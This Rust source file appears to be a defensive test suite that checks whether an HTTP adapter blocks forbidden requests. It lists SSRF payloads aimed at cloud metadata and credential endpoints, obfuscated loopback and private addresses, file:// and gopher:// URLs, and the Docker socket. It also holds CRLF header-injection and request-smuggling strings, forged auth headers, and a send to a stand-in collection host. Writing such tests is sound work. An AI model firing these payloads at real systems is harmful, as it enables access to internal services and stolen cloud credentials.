//! Behaviours that send what they should not, or where they should not.

use serde_json::{Value, json};

use crate::context::{Context, attempt, reason};
use crate::executor::adapter::http::{self, Chunk, Request, Response};
use crate::executor::adapter::types::Failure;

const READ_BYTES: u32 = 4096;
const TIMEOUT_MS: u32 = 2000;

pub(crate) fn request(method: &str, url: &str) -> Request {
    Request {
        method: method.to_owned(),
        url: url.to_owned(),
        headers: Vec::new(),
        body: Vec::new(),
        auth: None,
    }
}

/// Sends it and reports status and begin of the body, or the denial.
fn tried(what: impl Into<String>, request: Request) -> Value {
    let answer = http::send(request).and_then(|response| shown(&response));
    attempt(what, answer.map_err(|failure| reason(&failure)))
}

fn shown(response: &Response) -> Result<Value, Failure> {
    let body = response.read(READ_BYTES, TIMEOUT_MS)?.unwrap_or_default();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let headers: Vec<Value> =
        response.headers().iter().map(|(name, value)| json!([name, text(value)])).collect();
    Ok(json!({ "status": response.status(), "headers": headers, "body": text(&body) }))
}

fn tried_urls<'a>(urls: impl IntoIterator<Item = &'a str>) -> Vec<Value> {
    urls.into_iter().map(|url| tried(url, request("GET", url))).collect()
}

pub(crate) fn get(context: &Context) -> Vec<Value> {
    vec![tried("GET", request("GET", &context.url()))]
}

pub(crate) fn post(context: &Context) -> Vec<Value> {
    let body = vec![Chunk::Bytes(br#"{"title":"by a read"}"#.to_vec())];
    vec![tried("POST", Request { body, ..request("POST", &context.url()) })]
}

pub(crate) fn delete(context: &Context) -> Vec<Value> {
    vec![tried("DELETE", request("DELETE", &context.url()))]
}

pub(crate) fn methods(context: &Context) -> Vec<Value> {
    let url = context.url();
    let methods = [
        "PUT",
        "PATCH",
        "post",
        "Post",
        "POST ",
        "\tPOST",
        "CONNECT",
        "TRACE",
        "PROPFIND",
        "MOVE",
        "PURGE",
        "",
        "G\u{0}ET",
        "GET, POST",
    ];
    methods.iter().map(|method| tried(format!("{method:?}"), request(method, &url))).collect()
}

pub(crate) fn method_override(context: &Context) -> Vec<Value> {
    let names = ["x-http-method-override", "x-http-method", "x-method-override"];
    let mut attempts: Vec<Value> = names.iter().map(|name| with_header(context, name, b"DELETE")).collect();
    let separator = if context.url().contains('?') { '&' } else { '?' };
    let url = format!("{}{separator}_method=DELETE", context.url());
    attempts.push(tried("_method in the query", request("GET", &url)));
    attempts
}

fn with_header(context: &Context, name: &str, value: &[u8]) -> Value {
    let headers = vec![(name.to_owned(), value.to_vec())];
    let what = format!("{name:?}: {:?}", String::from_utf8_lossy(value));
    tried(what, Request { headers, ..request("GET", &context.url()) })
}

pub(crate) fn other_origin(context: &Context) -> Vec<Value> {
    let url = context.url();
    let other_port = format!("http://127.0.0.1:{}/", context.port());
    let other_scheme = match url.strip_prefix("http://") {
        Some(rest) => format!("https://{rest}"),
        None => url.replacen("https://", "http://", 1),
    };
    tried_urls([
        "http://ungranted.example/",
        "https://ungranted.example/collect?data=1",
        &other_port,
        &other_scheme,
    ])
}

pub(crate) fn metadata(_: &Context) -> Vec<Value> {
    tried_urls([
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0251.0376.0251.0376/",
        "http://169.254.43518/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
    ])
}

pub(crate) fn loopback(context: &Context) -> Vec<Value> {
    let port = context.port();
    let hosts = [
        "localhost",
        "LOCALHOST",
        "localhost.",
        "a.localhost",
        "ip6-localhost",
        "127.0.0.1",
        "127.0.0.1.",
        "127.1",
        "127.0.1",
        "127.255.255.254",
        "0.0.0.0",
        "0",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "017700000001",
        "[::1]",
        "[::]",
        "[0:0:0:0:0:0:0:1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[::1%25lo]",
        "①②⑦.⓪.⓪.①",
        "127。0。0。1",
        "loc\u{ad}alhost",
    ];
    let urls: Vec<String> = hosts.iter().map(|host| format!("http://{host}:{port}/")).collect();
    tried_urls(urls.iter().map(String::as_str))
}

pub(crate) fn private(_: &Context) -> Vec<Value> {
    tried_urls([
        "http://10.0.0.1/",
        "http://172.16.0.1/",
        "http://192.168.0.1/",
        "http://100.64.0.1/",
        "http://192.0.0.1/",
        "http://198.18.0.1/",
        "http://224.0.0.1/",
        "http://240.0.0.1/",
        "http://255.255.255.255/",
        "http://[fc00::1]/",
        "http://[fe80::1]/",
        "http://[ff02::1]/",
        "http://[2001:db8::1]/",
        "http://router.local/",
        "http://printer/",
    ])
}

pub(crate) fn userinfo(context: &Context) -> Vec<Value> {
    let port = context.port();
    let url = context.url();
    let granted = url.split("://").nth(1).and_then(|rest| rest.split('/').next()).unwrap_or_default();
    let urls = [
        format!("http://{granted}@127.0.0.1:{port}/"),
        format!("http://user:password@{granted}/"),
        format!("http://{granted}%40127.0.0.1:{port}/"),
        format!("http://{granted}\\@127.0.0.1:{port}/"),
        format!("http://127.0.0.1:{port}\\@{granted}/"),
        format!("http://127.0.0.1:{port}#@{granted}/"),
        format!("http://127.0.0.1:{port}?@{granted}/"),
        format!("http://{granted}.127.0.0.1:{port}/"),
        format!("http://{granted}:{port}@/"),
    ];
    tried_urls(urls.iter().map(String::as_str))
}

pub(crate) fn odd_urls(context: &Context) -> Vec<Value> {
    let url = context.url();
    let mut urls: Vec<String> = [
        "",
        "/",
        "//ungranted.example/",
        "http:",
        "http://",
        "http:///etc/passwd",
        "http:ungranted.example",
        "file:///etc/passwd",
        "ftp://127.0.0.1/",
        "gopher://127.0.0.1:6379/_PING",
        "unix:///var/run/docker.sock",
        "data:text/plain,hello",
        "ws://127.0.0.1/",
        "javascript:alert(1)",
        "http://[/",
        "http://a:99999/",
        "http://a:0/",
        "http://a b/",
        "http://\u{0}/",
        "http://xn--/",
        "http://%31%32%37.0.0.1/",
        "ht\ttp://127.0.0.1/",
        " http://127.0.0.1/",
    ]
    .map(str::to_owned)
    .to_vec();
    urls.push(format!("{url}/../../../admin"));
    urls.push(format!("{url}/%2e%2e/%2e%2e/admin"));
    urls.push(format!("{url}/{}", "a".repeat(1 << 20)));
    let shown = |url: &String| url.chars().take(80).collect::<String>();
    urls.iter().map(|url| tried(format!("{:?}", shown(url)), request("GET", url))).collect()
}

pub(crate) fn own_credentials(context: &Context) -> Vec<Value> {
    let headers = [
        ("authorization", "Bearer of-the-adapter"),
        ("Authorization", "Basic YTpi"),
        ("cookie", "session=of-the-adapter"),
        ("host", "ungranted.example"),
        ("Host", "127.0.0.1"),
        (":authority", "ungranted.example"),
        (":path", "/admin"),
        ("proxy-authorization", "Basic YTpi"),
        ("x-forwarded-for", "127.0.0.1"),
        ("x-forwarded-host", "ungranted.example"),
        ("forwarded", "for=127.0.0.1"),
        ("x-original-url", "/admin"),
        ("referer", "http://ungranted.example/"),
        ("origin", "null"),
        ("metadata-flavor", "Google"),
        ("user-agent", "another"),
    ];
    headers.iter().map(|(name, value)| with_header(context, name, value.as_bytes())).collect()
}

pub(crate) fn framing_headers(context: &Context) -> Vec<Value> {
    let headers = [
        ("content-length", "5"),
        ("content-length", "-1"),
        ("transfer-encoding", "chunked"),
        ("Transfer-Encoding", "chunked, identity"),
        ("connection", "keep-alive, authorization"),
        ("connection", "upgrade"),
        ("upgrade", "h2c"),
        ("te", "trailers"),
        ("trailer", "authorization"),
        ("expect", "100-continue"),
        ("proxy-connection", "keep-alive"),
        ("keep-alive", "timeout=99999"),
        ("accept-encoding", "bomb"),
        ("range", "bytes=0-0,0-0,0-0"),
    ];
    headers.iter().map(|(name, value)| with_header(context, name, value.as_bytes())).collect()
}

pub(crate) fn crlf_headers(context: &Context) -> Vec<Value> {
    let headers: [(&str, &[u8]); 10] = [
        ("x-a", b"b\r\nauthorization: Bearer injected"),
        ("x-a", b"b\nx-injected: 1"),
        ("x-a", b"b\rx-injected: 1"),
        ("x-a", b"b\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: h\r\n\r\n"),
        ("x-a", b"b\0c"),
        ("x-a", &[0xff, 0xfe]),
        ("x-a\r\nx-injected", b"1"),
        ("x-a: 1\r\nx-b", b"1"),
        ("", b"empty"),
        ("x a", b"space"),
    ];
    headers.iter().map(|(name, value)| with_header(context, name, value)).collect()
}

pub(crate) fn crlf_request(context: &Context) -> Vec<Value> {
    let url = context.url();
    let in_url = format!("{url}/a HTTP/1.1\r\nx-injected: 1\r\n\r\nGET /smuggled");
    let in_query = format!("{url}/?a=\r\nx-injected: 1");
    let method = "GET /smuggled HTTP/1.1\r\nhost: h\r\n\r\nGET";
    vec![
        tried("in the URL", request("GET", &in_url)),
        tried("in the query", request("GET", &in_query)),
        tried("in the method", request(method, &url)),
    ]
}

fn with_headers(context: &Context, what: &str, headers: Vec<(String, Vec<u8>)>) -> Vec<Value> {
    let request = Request { headers, ..request("GET", &context.url()) };
    vec![tried(what, request)]
}

pub(crate) fn many_headers(context: &Context) -> Vec<Value> {
    let count = context.count(100_000);
    let headers = (0..count).map(|number| (format!("x-{number}"), b"1".to_vec()));
    with_headers(context, "many headers", headers.collect())
}

pub(crate) fn huge_header(context: &Context) -> Vec<Value> {
    let value = vec![b'a'; context.count(10_000_000)];
    with_headers(context, "one long value", vec![("x-long".to_owned(), value)])
}

pub(crate) fn huge_header_name(context: &Context) -> Vec<Value> {
    let name = "x".repeat(context.count(10_000_000));
    with_headers(context, "one long name", vec![(name, b"1".to_vec())])
}

pub(crate) fn huge_body(context: &Context) -> Vec<Value> {
    let piece = vec![b'x'; 1_000_000];
    let body = (0..context.count(100_000_000) / piece.len()).map(|_| Chunk::Bytes(piece.clone())).collect();
    vec![tried("a huge body", Request { body, ..request("POST", &context.url()) })]
}

pub(crate) fn unknown_auth(context: &Context) -> Vec<Value> {
    let try_those = |ids: &[&str]| {
        let auth = Some(ids.iter().map(|id| (*id).to_owned()).collect());
        tried(format!("{ids:?}"), Request { auth, ..request("GET", &context.url()) })
    };
    vec![
        try_those(&["nobody-defined"]),
        try_those(&[""]),
        try_those(&["../token"]),
        try_those(&["token", "token"]),
    ]
}

pub(crate) fn many(context: &Context) -> Vec<Value> {
    let url = context.url();
    for number in 0..context.count(100_000) {
        if let Err(failure) = http::send(request("GET", &url)) {
            return vec![attempt::<Value>(format!("request {number}"), Err(reason(&failure)))];
        }
    }
    vec![attempt("all of them", Ok("sent"))]
}

pub(crate) fn follow(context: &Context) -> Vec<Value> {
    let mut url = context.url();
    let mut attempts = Vec::new();
    for _ in 0..context.count(30) {
        let answer = http::send(request("GET", &url));
        let location = answer.as_ref().ok().and_then(location_of);
        let status = answer.map(|response| response.status());
        attempts.push(attempt(url, status.map_err(|failure| reason(&failure))));
        match location {
            Some(location) => url = location,
            None => break,
        }
    }
    attempts
}

fn location_of(response: &Response) -> Option<String> {
    let headers = response.headers();
    let (_, value) = headers.iter().find(|(name, _)| name.eq_ignore_ascii_case("location"))?;
    String::from_utf8(value.clone()).ok()
}
